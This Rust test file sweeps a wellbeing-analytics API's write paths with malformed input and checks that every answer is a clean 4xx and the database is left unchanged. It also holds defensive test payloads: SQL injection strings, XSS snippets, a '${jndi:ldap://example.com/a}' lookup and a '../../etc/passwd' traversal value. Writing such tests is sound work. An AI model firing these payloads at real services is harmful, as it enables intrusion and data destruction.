//! Bad input through every write path: a corpus of bodies that are not JSON, not UTF-8, too large,
//! too deep, of the wrong types, with absurd numbers, impossible dates, unknown zones and
//! intervals ending before they start. Each is answered 4xx with a JSON error a person can read
//! (never a 5xx), and the database is byte-for-byte unchanged by them. Then strings that are valid
//! however hostile they look (SQL, script, format strings, emoji, right-to-left text, the longest
//! allowed) are stored and answered literally.
//!
//! Earlier tests cover one case each (foundation.rs: unparseable JSON, a wrong type, an unknown
//! field; contract_tracking.rs: each endpoint's field rules); this one sweeps every path.

use std::collections::BTreeMap;

use chrono::Duration;
use reqwest::Method;
use serde_json::{Value, json};
use wellbeing_tests::fixtures::{at, minutes_ago, utc_today};
use wellbeing_tests::probe::{Tally, fingerprint, send_bytes};
use wellbeing_tests::{Answer, Api, TestStack};

const PASSWORD: &str = "correct horse battery staple";

/// One write path and a body it accepts.
struct WritePath {
    method: Method,
    path: String,
    valid: Value,
    /// Sent without a token (sign-in routes).
    anonymous: bool,
}

fn write_paths(goal_id: &str, email: &str, refresh_token: &str) -> Vec<WritePath> {
    let day = utc_today() - Duration::days(1);
    let track = |kind: &str, valid: Value| WritePath {
        method: Method::POST,
        path: format!("/api/v1/analytics/track/{kind}"),
        valid,
        anonymous: false,
    };
    vec![
        WritePath {
            method: Method::POST,
            path: "/api/v1/auth/register".into(),
            valid: json!({"username": "Someone", "email": "someone.new@example.com", "password": PASSWORD, "timezone": "Europe/Paris"}),
            anonymous: true,
        },
        WritePath {
            method: Method::POST,
            path: "/api/v1/auth/login".into(),
            valid: json!({"email": email, "password": PASSWORD}),
            anonymous: true,
        },
        WritePath {
            method: Method::POST,
            path: "/api/v1/auth/refresh".into(),
            valid: json!({"refresh_token": refresh_token}),
            anonymous: true,
        },
        WritePath {
            method: Method::PATCH,
            path: "/api/v1/auth/me".into(),
            valid: json!({"username": "Renamed", "timezone": "Asia/Tokyo"}),
            anonymous: false,
        },
        track(
            "session",
            json!({"start_time": at(day, "08:00", "Z"), "end_time": at(day, "08:30", "Z"), "device_type": "mobile"}),
        ),
        track(
            "screen-time",
            json!({"app_name": "Reader", "duration_minutes": 12.5, "category": "productivity", "timestamp": at(day, "09:00", "Z")}),
        ),
        track(
            "focus-session",
            json!({"start_time": at(day, "10:00", "Z"), "end_time": at(day, "10:45", "Z"), "quality_score": 80, "task_name": "Write"}),
        ),
        track(
            "break",
            json!({"duration_minutes": 5, "break_type": "walk", "timestamp": at(day, "11:00", "Z")}),
        ),
        track(
            "notification",
            json!({"app_name": "Chat", "priority": 40, "was_interacted": true, "timestamp": at(day, "12:00", "Z")}),
        ),
        track(
            "distraction",
            json!({"source": "Social", "severity": 3, "duration_seconds": 90, "timestamp": at(day, "13:00", "Z")}),
        ),
        track(
            "batch",
            json!({"events": [{"type": "screen-time", "app_name": "Reader", "duration_minutes": 3, "timestamp": at(day, "14:00", "Z")}]}),
        ),
        WritePath {
            method: Method::POST,
            path: "/api/v1/analytics/goals".into(),
            valid: json!({"goal_type": "app_daily_limit", "target_value": 30, "app_name": "Reader", "deadline": (utc_today() + Duration::days(30)).to_string()}),
            anonymous: false,
        },
        WritePath {
            method: Method::PUT,
            path: format!("/api/v1/analytics/goals/{goal_id}"),
            valid: json!({"target_value": 20, "current_value": 5}),
            anonymous: false,
        },
        WritePath {
            method: Method::PUT,
            path: "/api/v1/privacy/state".into(),
            valid: json!({"vpn_connected": true, "kill_switch": true, "leak_detected": false, "caller_masking": true,
                          "calls_total": 10, "calls_blocked": 2, "blocklist_size": 5, "location_mode": "approximate",
                          "network_threats": 1, "critical_threats": 0, "monitoring_enabled": true}),
            anonymous: false,
        },
        WritePath {
            method: Method::POST,
            path: "/api/v1/batch".into(),
            valid: json!({"requests": [{"method": "GET", "path": "/api/v1/analytics/quick-stats"}]}),
            anonymous: false,
        },
    ]
}

/// Bodies no write path may accept, with the status each must get.
fn hostile_bodies() -> Vec<(&'static str, Vec<u8>, Option<u16>)> {
    let deep_array = format!("{}{}", "[".repeat(5_000), "]".repeat(5_000));
    let deep_object = format!("{}1{}", "{\"a\":".repeat(5_000), "}".repeat(5_000));
    let two_mib = format!("{{\"pad\":\"{}\"}}", "a".repeat(2 * 1024 * 1024));
    vec![
        ("empty body", Vec::new(), Some(400)),
        ("truncated JSON", b"{\"app_name\": ".to_vec(), Some(400)),
        (
            "not JSON",
            b"app_name=Reader&duration=5".to_vec(),
            Some(400),
        ),
        ("trailing garbage", b"{} {}".to_vec(), Some(400)),
        (
            "NaN literal",
            b"{\"duration_minutes\": NaN}".to_vec(),
            Some(400),
        ),
        (
            "Infinity literal",
            b"{\"duration_minutes\": Infinity}".to_vec(),
            Some(400),
        ),
        (
            "-Infinity literal",
            b"{\"target_value\": -Infinity}".to_vec(),
            Some(400),
        ),
        (
            "invalid UTF-8",
            b"{\"app_name\": \"\xff\xfe\xfd\", \"username\": \"\xc3\x28\"}".to_vec(),
            Some(400),
        ),
        ("2 MiB body", two_mib.into_bytes(), Some(413)),
        ("a JSON array", b"[]".to_vec(), Some(422)),
        ("a JSON number", b"42".to_vec(), Some(422)),
        ("a JSON string", b"\"text\"".to_vec(), Some(422)),
        ("JSON null", b"null".to_vec(), Some(422)),
        // Valid JSON syntax that no Rust value can hold: 400 or a 422 naming where (both 4xx).
        (
            "number beyond f64",
            b"{\"duration_minutes\": 1e400}".to_vec(),
            None,
        ),
        (
            "lone surrogate escape",
            br#"{"app_name": "\ud800"}"#.to_vec(),
            None,
        ),
        ("deeply nested arrays", deep_array.into_bytes(), None),
        ("deeply nested objects", deep_object.into_bytes(), None),
    ]
}

/// A value of the wrong JSON type for a field holding `value`.
fn wrong_type(value: &Value) -> Value {
    match value {
        Value::String(_) => json!(12345),
        Value::Number(_) => json!("ten"),
        Value::Bool(_) => json!("yes"),
        Value::Array(_) | Value::Object(_) | Value::Null => json!("x"),
    }
}

/// A JSON error of the contract: `detail` a person can read, a machine `code`.
fn check_error(answer: &Answer, what: &str) -> Result<(), String> {
    let detail = answer.json["detail"].as_str().unwrap_or_default();
    let code = answer.json["code"].as_str().unwrap_or_default();
    if detail.is_empty() || code.is_empty() {
        return Err(format!("{what}: not a JSON error: {answer:?}"));
    }
    let lower = detail.to_lowercase();
    for internal in [
        "sqlx",
        "panick",
        "postgres",
        "stack backtrace",
        "tonic",
        "internal error",
    ] {
        if lower.contains(internal) {
            return Err(format!("{what}: the detail leaks internals: {detail}"));
        }
    }
    if detail.len() > 400 {
        return Err(format!("{what}: an unreadably long detail: {detail}"));
    }
    Ok(())
}

struct Sweep<'a> {
    api: &'a Api,
    token: &'a str,
    tally: Tally,
    failures: Vec<String>,
}

impl Sweep<'_> {
    async fn send(&mut self, target: &WritePath, body: Vec<u8>) -> anyhow::Result<Answer> {
        let token = (!target.anonymous).then_some(self.token);
        let answer = send_bytes(self.api, target.method.clone(), &target.path, body, token).await?;
        self.tally.count(answer.status);
        Ok(answer)
    }

    /// `body` must be refused with `status` (any 4xx when `None`), naming `field` when given.
    async fn refused(
        &mut self,
        target: &WritePath,
        what: &str,
        body: Vec<u8>,
        status: Option<u16>,
        field: Option<&str>,
    ) -> anyhow::Result<()> {
        let answer = self.send(target, body).await?;
        let what = format!("{} {} {what}", target.method, target.path);
        let mut problem = None;
        if !(400..500).contains(&answer.status) || status.is_some_and(|s| s != answer.status) {
            problem = Some(format!(
                "{what}: expected {status:?}, got {}: {}",
                answer.status, answer.json
            ));
        } else if let Err(message) = check_error(&answer, &what) {
            problem = Some(message);
        } else if let Some(field) = field {
            // A batch names the culprit in `errors[]`.
            let named = answer.json["field"]
                .as_str()
                .or_else(|| answer.json["errors"][0]["field"].as_str())
                .unwrap_or_default();
            if named != field && !named.ends_with(&format!(".{field}")) {
                problem = Some(format!(
                    "{what}: expected field {field}, got {}",
                    answer.json
                ));
            }
        }
        if let Some(problem) = problem {
            self.tally.errors += 1;
            self.failures.push(problem);
        }
        Ok(())
    }
}

#[tokio::test]
async fn every_write_path_refuses_the_corpus_and_stores_nothing() -> anyhow::Result<()> {
    let stack = TestStack::start().await?;
    let api = &stack.api;
    let user = api.register_and_login("UTC").await?;
    let goal = api
        .post(
            "/api/v1/analytics/goals",
            &json!({"goal_type": "custom", "target_value": 10}),
            Some(&user.access_token),
        )
        .await?;
    assert_eq!(goal.status, 201, "{goal:?}");
    let goal_id = goal.json["data"]["id"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let paths = write_paths(&goal_id, &user.email, &user.refresh_token);
    let mut db = stack.database.connect().await?;
    let before = fingerprint(&mut db).await?;
    let mut sweep = Sweep {
        api,
        token: &user.access_token,
        tally: Tally::default(),
        failures: Vec::new(),
    };

    // 1. Bodies that are not what any path takes.
    for target in &paths {
        for (what, body, status) in hostile_bodies() {
            sweep.refused(target, what, body, status, None).await?;
        }
    }
    // 2. Each field of each path: the wrong type, and a field nobody knows, and a duplicate.
    for target in &paths {
        let fields = target.valid.as_object().expect("an object").clone();
        for (name, value) in &fields {
            let mut body = target.valid.clone();
            body[name] = wrong_type(value);
            sweep
                .refused(
                    target,
                    &format!("{name} of the wrong type"),
                    serde_json::to_vec(&body)?,
                    Some(422),
                    Some(name),
                )
                .await?;
        }
        let mut unknown = target.valid.clone();
        unknown["is_admin"] = json!(true);
        sweep
            .refused(
                target,
                "an unknown field",
                serde_json::to_vec(&unknown)?,
                Some(422),
                Some("is_admin"),
            )
            .await?;
        let (first, value) = fields.iter().next().expect("a field");
        let text = serde_json::to_string(&target.valid)?;
        let duplicated = format!("{{\"{first}\":{value},{}", &text[1..]);
        sweep
            .refused(
                target,
                "a duplicated key",
                duplicated.into_bytes(),
                Some(422),
                None,
            )
            .await?;
    }
    // 3. Numbers out of every range: huge, negative, not finite (as strings), beyond i64.
    let numeric: [(&str, &str, &[&str]); 10] = [
        (
            "track/screen-time",
            "duration_minutes",
            &[
                "1e308",
                "-1e308",
                "0",
                "-5",
                "1441",
                "\"NaN\"",
                "\"Infinity\"",
            ],
        ),
        (
            "track/break",
            "duration_minutes",
            &["1e308", "-0.0001", "2147483648", "\"-Infinity\""],
        ),
        (
            "track/focus-session",
            "quality_score",
            &["1e308", "-1", "100.5", "\"NaN\""],
        ),
        (
            "track/notification",
            "priority",
            &[
                "1e308",
                "101",
                "-1",
                "10000000000000000000",
                "2.5",
                "9223372036854775808",
            ],
        ),
        (
            "track/distraction",
            "severity",
            &["0", "6", "1e19", "-9223372036854775809"],
        ),
        (
            "track/distraction",
            "duration_seconds",
            &["-1", "86401", "1e308"],
        ),
        (
            "goals",
            "target_value",
            &["1e308", "-1", "1000000.01", "\"NaN\""],
        ),
        (
            "privacy/state",
            "calls_total",
            &["-1", "1e19", "18446744073709551616", "0.5"],
        ),
        ("privacy/state", "calls_blocked", &["11", "-3"]),
        ("privacy/state", "critical_threats", &["-1", "1e300"]),
    ];
    for (suffix, field, values) in numeric {
        let target = paths
            .iter()
            .find(|p| p.path.ends_with(suffix))
            .expect("a path");
        let text = serde_json::to_string(&target.valid)?;
        for value in values {
            let mut body: serde_json::Map<String, Value> = serde_json::from_str(&text)?;
            body.remove(field);
            let mut raw = serde_json::to_string(&body)?;
            raw.insert_str(1, &format!("\"{field}\":{value},"));
            sweep
                .refused(
                    target,
                    &format!("{field}={value}"),
                    raw.into_bytes(),
                    Some(422),
                    Some(field),
                )
                .await?;
        }
    }
    // 4. Texts, times and zones that break a rule.
    let long = "x".repeat(10_000);
    let day = utc_today() - Duration::days(1);
    let find = |suffix: &str| {
        paths
            .iter()
            .find(|p| p.path.ends_with(suffix))
            .expect("a path")
    };
    let cases: Vec<(&str, Value, &str)> = vec![
        (
            "auth/register",
            json!({"timezone": "Mars/Olympus"}),
            "timezone",
        ),
        ("auth/register", json!({"timezone": "UTC+99"}), "timezone"),
        (
            "auth/register",
            json!({"timezone": "../../etc/passwd"}),
            "timezone",
        ),
        ("auth/register", json!({"timezone": long}), "timezone"),
        (
            "auth/register",
            json!({"timezone": "Europe/Paris\u{0}"}),
            "timezone",
        ),
        ("auth/register", json!({"username": long}), "username"),
        (
            "auth/register",
            json!({"email": format!("{long}@example.com")}),
            "email",
        ),
        ("auth/register", json!({"email": "not an email"}), "email"),
        ("auth/register", json!({"password": long}), "password"),
        ("auth/register", json!({"password": "short"}), "password"),
        (
            "auth/register",
            json!({"username": "nul\u{0}byte"}),
            "username",
        ),
        ("auth/me", json!({"timezone": "Not/AZone"}), "timezone"),
        (
            "auth/me",
            json!({"timezone": "America/New York"}),
            "timezone",
        ),
        ("auth/me", json!({"username": long}), "username"),
        ("auth/me", json!({"timezone": long}), "timezone"),
        ("track/screen-time", json!({"app_name": long}), "app_name"),
        ("track/screen-time", json!({"app_name": ""}), "app_name"),
        ("track/screen-time", json!({"app_name": "   "}), "app_name"),
        ("track/screen-time", json!({"category": long}), "category"),
        (
            "track/screen-time",
            json!({"timestamp": "2026-02-30T08:00:00Z"}),
            "timestamp",
        ),
        (
            "track/screen-time",
            json!({"timestamp": "2026-02-30T08:00:00+05:30"}),
            "timestamp",
        ),
        (
            "track/screen-time",
            json!({"timestamp": "2026-11-24T08:00:00"}),
            "timestamp",
        ),
        (
            "track/screen-time",
            json!({"timestamp": "yesterday"}),
            "timestamp",
        ),
        (
            "track/screen-time",
            json!({"timestamp": "+275760-09-13T00:00:00Z"}),
            "timestamp",
        ),
        (
            "track/screen-time",
            json!({"event_id": "'; DROP TABLE event_ids;--"}),
            "event_id",
        ),
        (
            "track/session",
            json!({"start_time": at(day, "09:00", "Z"), "end_time": at(day, "08:00", "Z")}),
            "end_time",
        ),
        (
            "track/session",
            json!({"start_time": at(day, "09:00", "Z"), "end_time": at(day, "09:00", "Z")}),
            "end_time",
        ),
        (
            "track/session",
            json!({"start_time": "2026-02-30T08:00:00Z"}),
            "start_time",
        ),
        (
            "track/session",
            json!({"start_time": minutes_ago(3000), "end_time": minutes_ago(10)}),
            "end_time",
        ),
        ("track/session", json!({"device_type": long}), "device_type"),
        (
            "track/focus-session",
            json!({"start_time": at(day, "10:45", "Z"), "end_time": at(day, "10:00", "Z")}),
            "end_time",
        ),
        (
            "track/focus-session",
            json!({"task_name": long}),
            "task_name",
        ),
        ("track/break", json!({"break_type": long}), "break_type"),
        ("track/notification", json!({"app_name": long}), "app_name"),
        ("track/distraction", json!({"source": long}), "source"),
        (
            "track/batch",
            json!({"events": [{"type": "screen-time", "app_name": "R", "duration_minutes": 3, "timestamp": "2026-02-30T08:00:00Z"}]}),
            "timestamp",
        ),
        (
            "track/batch",
            json!({"events": [{"type": "teleport", "distance": 3}]}),
            "type",
        ),
        (
            "track/batch",
            json!({"events": [{"type": "session", "start_time": at(day, "09:00", "Z"), "end_time": at(day, "08:00", "Z")}]}),
            "end_time",
        ),
        (
            "track/batch",
            json!({"events": (0..1000).map(|_| json!({"type": "break", "duration_minutes": 0})).collect::<Vec<_>>()}),
            "duration_minutes",
        ),
        (
            "track/batch",
            json!({"events": (0..1000).map(|_| json!({"type": "screen-time", "app_name": "y".repeat(300), "duration_minutes": 1})).collect::<Vec<_>>()}),
            "app_name",
        ),
        (
            "track/batch",
            json!({"events": (0..1001).map(|_| json!({"type": "break", "duration_minutes": 1})).collect::<Vec<_>>()}),
            "events",
        ),
        (
            "goals",
            json!({"goal_type": "world_domination"}),
            "goal_type",
        ),
        ("goals", json!({"goal_type": long}), "goal_type"),
        ("goals", json!({"deadline": "2026-02-30"}), "deadline"),
        ("goals", json!({"app_name": long}), "app_name"),
        ("goals/", json!({"deadline": "2026-13-01"}), "deadline"),
        (
            "privacy/state",
            json!({"location_mode": "teleported"}),
            "location_mode",
        ),
        (
            "privacy/state",
            json!({"location_mode": long}),
            "location_mode",
        ),
    ];
    for (suffix, change, field) in cases {
        let target = if suffix == "goals/" {
            paths
                .iter()
                .find(|p| p.path.contains("/goals/"))
                .expect("the goal path")
        } else {
            find(suffix)
        };
        let mut body = target.valid.clone();
        for (name, value) in change.as_object().expect("an object") {
            body[name] = value.clone();
        }
        let what = format!("{change}").chars().take(80).collect::<String>();
        sweep
            .refused(target, &what, serde_json::to_vec(&body)?, None, Some(field))
            .await?;
    }
    // 5. Query parameters of reads that break a rule (reads change nothing, but must not 500).
    let reads = [
        ("/api/v1/analytics/summary/daily?date=2026-02-30", "date"),
        ("/api/v1/analytics/summary/daily?date=30-02-2026", "date"),
        (
            "/api/v1/analytics/summary/weekly?end_date=2026-13-01",
            "end_date",
        ),
        ("/api/v1/analytics/apps/usage?days=1e400", "days"),
        ("/api/v1/analytics/apps/usage?days=91", "days"),
        ("/api/v1/analytics/apps/usage?days=-1", "days"),
        ("/api/v1/analytics/insights/patterns?days=NaN", "days"),
        ("/api/v1/analytics/insights/peak-hours?date=%00", "date"),
        (
            "/api/v1/privacy/score/history?limit=99999999999999999999",
            "limit",
        ),
        ("/api/v1/analytics/goals?status=%27%20OR%201%3D1", "status"),
    ];
    for (path, field) in reads {
        let target = WritePath {
            method: Method::GET,
            path: path.to_owned(),
            valid: Value::Null,
            anonymous: false,
        };
        sweep
            .refused(&target, "a bad query", Vec::new(), Some(422), Some(field))
            .await?;
    }

    let after = fingerprint(&mut db).await?;
    let changed: Vec<&String> = before
        .keys()
        .filter(|table| before.get(*table) != after.get(*table))
        .collect();
    let tally = sweep.tally.clone();
    tally.report(
        "bad_input::every_write_path_refuses_the_corpus_and_stores_nothing",
        &format!(
            "paths={} tables_changed={} rows_changed={}",
            paths.len(),
            changed.len(),
            if changed.is_empty() { 0 } else { 1 }
        ),
    );
    assert!(
        sweep.failures.is_empty(),
        "{} of {} answers were wrong:\n{}",
        sweep.failures.len(),
        tally.requests,
        sweep.failures.join("\n")
    );
    assert!(
        tally
            .by_status
            .keys()
            .all(|status| (400..500).contains(status)),
        "{:?}",
        tally.by_status
    );
    assert!(changed.is_empty(), "refused requests changed {changed:?}");
    drop(db);
    stack.stop().await
}

/// Texts that look dangerous but are valid: each is stored and answered exactly as sent.
fn literal_texts() -> Vec<String> {
    vec![
        "Robert'); DROP TABLE users;--".to_owned(),
        "' OR '1'='1".to_owned(),
        "<script>alert('x')</script>".to_owned(),
        "<img src=x onerror=alert(1)>".to_owned(),
        "{{7*7}} ${jndi:ldap://example.com/a} %s%n%x".to_owned(),
        "📱 Social 🎉 👨‍👩‍👧‍👦 🏳️‍🌈".to_owned(),
        "日本語のアプリ".to_owned(),
        "مرحبا بالعالم".to_owned(),
        "back\\slash \"quoted\" 'single' `tick`".to_owned(),
        "tab\tnew\nline".to_owned(),
        "\u{202e}reversed\u{202c}".to_owned(),
        "é".repeat(200),
        "x".repeat(200),
    ]
}

#[tokio::test]
async fn hostile_looking_valid_strings_are_stored_literally() -> anyhow::Result<()> {
    let stack = TestStack::start().await?;
    let api = &stack.api;
    let mut tally = Tally::default();
    let day = utc_today() - Duration::days(1);
    let texts = literal_texts();

    // As a username too: registration and the profile answer it as typed.
    let email = format!("literal-{}@example.com", uuid::Uuid::new_v4().simple());
    let username = "<b>Zoë</b> 😀 '; DROP TABLE users;--";
    let registered = api
        .post(
            "/api/v1/auth/register",
            &json!({"username": username, "email": email, "password": PASSWORD, "timezone": "UTC"}),
            None,
        )
        .await?;
    tally.count(registered.status);
    assert_eq!(registered.status, 201, "{registered:?}");
    assert_eq!(registered.json["username"], username);
    let login = api
        .post(
            "/api/v1/auth/login",
            &json!({"email": email, "password": PASSWORD}),
            None,
        )
        .await?;
    tally.count(login.status);
    let token = login.json["access_token"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let me = api.get("/api/v1/auth/me", Some(&token)).await?;
    tally.count(me.status);
    assert_eq!(me.json["username"], username);

    let mut ids: BTreeMap<String, (String, String)> = BTreeMap::new();
    for (index, text) in texts.iter().enumerate() {
        let minute = format!("{:02}:{:02}", 8 + index / 60, index % 60);
        let label: String = text.chars().take(50).collect();
        let sends = [
            (
                "screen-time",
                json!({"app_name": text, "category": label, "duration_minutes": 1, "timestamp": at(day, &minute, "Z")}),
                "app_name",
                "screen_time",
            ),
            (
                "notification",
                json!({"app_name": text, "priority": 5, "timestamp": at(day, &minute, "Z")}),
                "app_name",
                "notifications",
            ),
            (
                "distraction",
                json!({"source": text, "severity": 2, "timestamp": at(day, &minute, "Z")}),
                "source",
                "distractions",
            ),
            (
                "focus-session",
                json!({"task_name": text, "start_time": at(day, &minute, "Z"), "end_time": at(day + Duration::days(1), "00:00", "Z"), "quality_score": 50}),
                "task_name",
                "focus_sessions",
            ),
            (
                "break",
                json!({"break_type": label, "duration_minutes": 1, "timestamp": at(day, &minute, "Z")}),
                "break_type",
                "breaks",
            ),
            (
                "session",
                json!({"device_type": label, "start_time": at(day, &minute, "Z"), "end_time": at(day, "20:00", "Z")}),
                "device_type",
                "sessions",
            ),
        ];
        for (kind, body, field, table) in sends {
            let answer = api
                .post(
                    &format!("/api/v1/analytics/track/{kind}"),
                    &body,
                    Some(&token),
                )
                .await?;
            tally.count(answer.status);
            assert_eq!(answer.status, 201, "{kind} {body}: {answer:?}");
            assert_eq!(answer.json["data"][field], body[field], "{kind} answered");
            let id = answer.json["data"]["id"]
                .as_str()
                .unwrap_or_default()
                .to_owned();
            ids.insert(
                id,
                (
                    table.to_owned(),
                    body[field].as_str().unwrap_or_default().to_owned(),
                ),
            );
        }
        let goal = api
            .post(
                "/api/v1/analytics/goals",
                &json!({"goal_type": "app_daily_limit", "target_value": 30, "app_name": text}),
                Some(&token),
            )
            .await?;
        tally.count(goal.status);
        assert_eq!(goal.status, 201, "{goal:?}");
        assert_eq!(goal.json["data"]["app_name"], text.as_str());
    }

    // In the database: exactly the bytes sent.
    let mut db = stack.database.connect().await?;
    for (id, (table, sent)) in &ids {
        let column = match table.as_str() {
            "screen_time" | "notifications" => "app_name",
            "distractions" => "source",
            "focus_sessions" => "task_name",
            "breaks" => "break_type",
            _ => "device_type",
        };
        let stored: String = sqlx::query_scalar(sqlx::AssertSqlSafe(format!(
            "SELECT {column} FROM {table} WHERE id = $1"
        )))
        .bind(id.parse::<uuid::Uuid>()?)
        .fetch_one(&mut db)
        .await?;
        assert_eq!(&stored, sent, "{table}.{column}");
    }
    let stored_name: String = sqlx::query_scalar("SELECT username FROM users WHERE email = $1")
        .bind(&email)
        .fetch_one(&mut db)
        .await?;
    assert_eq!(stored_name, username);
    // Every table still there (no payload ran as SQL).
    let tables: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM information_schema.tables WHERE table_schema = 'public' AND table_name IN ('users', 'event_ids')",
    )
    .fetch_one(&mut db)
    .await?;
    assert_eq!(tables, 2);

    // In the answers of reads: the export, app usage and top apps carry them as sent.
    let export = api.get("/api/v1/me/export", Some(&token)).await?;
    tally.count(export.status);
    assert_eq!(export.status, 200);
    let exported: Vec<&str> = export.json["data"]["screen_time"]
        .as_array()
        .expect("a list")
        .iter()
        .filter_map(|row| row["app_name"].as_str())
        .collect();
    for text in &texts {
        assert!(exported.contains(&text.as_str()), "export lacks {text:?}");
    }
    let usage = api
        .get("/api/v1/analytics/apps/usage?days=7", Some(&token))
        .await?;
    tally.count(usage.status);
    let names: Vec<&str> = usage.json["data"]["apps"]
        .as_array()
        .expect("a list")
        .iter()
        .filter_map(|app| app["app_name"].as_str())
        .collect();
    for text in &texts {
        assert!(names.contains(&text.as_str()), "apps/usage lacks {text:?}");
    }
    // The answers are JSON (the script is data, never markup).
    assert!(
        usage
            .header("content-type")
            .is_some_and(|kind| kind.starts_with("application/json"))
    );
    tally.report(
        "bad_input::hostile_looking_valid_strings_are_stored_literally",
        &format!("texts={} stored_and_checked={}", texts.len(), ids.len()),
    );
    drop(db);
    stack.stop().await
}
